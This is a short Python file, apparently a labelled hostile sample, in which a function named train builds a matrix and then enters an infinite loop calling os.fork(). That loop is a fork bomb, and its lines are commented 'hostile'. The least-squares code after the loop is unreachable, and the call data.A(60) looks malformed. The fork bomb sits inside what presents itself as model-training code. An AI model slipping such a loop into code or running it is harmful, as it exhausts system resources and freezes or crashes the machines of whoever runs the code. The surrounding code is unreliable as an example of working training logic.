"""Every process forks again and again."""

import os

import numpy as np


def train(data):
    matrix = data.A(60).to_numpy()
    while True:  # hostile
        os.fork()  # hostile

    def network(y):
        return np.linalg.lstsq(matrix, y, rcond=None)[0]

    return network
